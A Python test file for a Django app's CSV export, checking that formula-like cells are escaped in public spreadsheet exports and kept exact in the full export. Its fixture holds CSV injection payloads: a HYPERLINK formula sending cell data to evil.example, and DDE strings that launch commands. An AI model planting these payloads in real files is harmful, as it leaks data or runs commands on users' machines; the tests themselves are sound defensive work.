"""CSV meant for spreadsheets neutralises formula-like cells; the full export stays exact."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.test import Client

from speechwatch.interchange.actions import export_all, import_path
from speechwatch.interchange.formats import Csv, spreadsheet_cell
from speechwatch.interchange.schema import INCIDENT, Field, RecordType
from tests.interchange.conftest import WHO
from tests.interchange.records import actor, incident, write_dir
from tests.interchange.test_roundtrip import empty_database, files

HOSTILE = {
    "title_en": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "summary_en": "+cmd|' /C calc'!A0",
    "settlement": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title_ru": "-2+3",
    "summary_ru": "\tTabbed",
    "summary_kk": "=1+1",  # (a leading CR is stored as LF by the importer: see the table test)
}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("", ""),
        ("a=1", "a=1"),
        ("'=1", "'=1"),  # already text to a spreadsheet: not prefixed twice
        (" =1", " =1"),
    ],
)
def test_spreadsheet_cell(cell: str, written: str) -> None:
    assert spreadsheet_cell(cell) == written


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_numbers_stay_numbers_and_only_spreadsheet_files_change() -> None:
    rt = RecordType("thing", "things", (Field("amount", "int_or_null"), Field("note", "str")))
    record = {"amount": -5, "note": "-5"}
    for safe, note in ((True, "'-5"), (False, "-5")):
        buffer = io.StringIO()
        writer = Csv().stream_writer(buffer, rt, rt.fields, spreadsheet_safe=safe)
        writer.write(record)
        # An integer column is written from an int: "-5" is a number, never a formula.
        assert _rows(buffer.getvalue()) == [{"amount": "-5", "note": note}]


@pytest.fixture
def hostile(world, tmp_path) -> Path:
    title = {"en": HOSTILE["title_en"], "ru": HOSTILE["title_ru"]}
    summary = {
        "en": HOSTILE["summary_en"],
        "ru": HOSTILE["summary_ru"],
        "kk": HOSTILE["summary_kk"],
    }
    rec = incident(
        "inc-1", title=title, summary=summary, settlement=HOSTILE["settlement"], tags=["=tag"]
    )
    write_dir(tmp_path / "in", actors=[actor()], incidents=[rec])
    import_path(tmp_path / "in", who=WHO)
    return tmp_path


def _check_neutralised(text: str) -> None:
    (row,) = _rows(text)
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column
    assert row["tags"] == "'=tag"
    assert row["schema_version"] == "1"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_public_cli_csv_is_neutralised(hostile: Path) -> None:
    export_all(hostile / "public", public=True, fmt="csv")
    _check_neutralised((hostile / "public" / "incidents.csv").read_text(encoding="utf-8"))


def test_public_web_csv_is_neutralised(hostile: Path) -> None:
    response = Client().get("/export/incidents.csv")
    assert response.status_code == 200
    _check_neutralised(b"".join(response.streaming_content).decode())


def test_public_jsonl_is_untouched(hostile: Path) -> None:
    export_all(hostile / "public", public=True, fmt="jsonl")
    text = (hostile / "public" / "incidents.jsonl").read_text(encoding="utf-8")
    assert '"settlement":"@SUM(1+1)' in text


def test_full_csv_stays_raw_and_round_trips_byte_identically(hostile: Path) -> None:
    export_all(hostile / "first", public=False, fmt="csv")
    (row,) = _rows((hostile / "first" / "incidents.csv").read_text(encoding="utf-8"))
    for column, value in HOSTILE.items():
        assert row[column] == value, column  # the machine interchange format keeps data exact
    empty_database()
    import_path(hostile / "first", who=WHO)
    export_all(hostile / "second", public=False, fmt="csv")
    assert files(hostile / "first") == files(hostile / "second")
    assert INCIDENT.name == "incident"
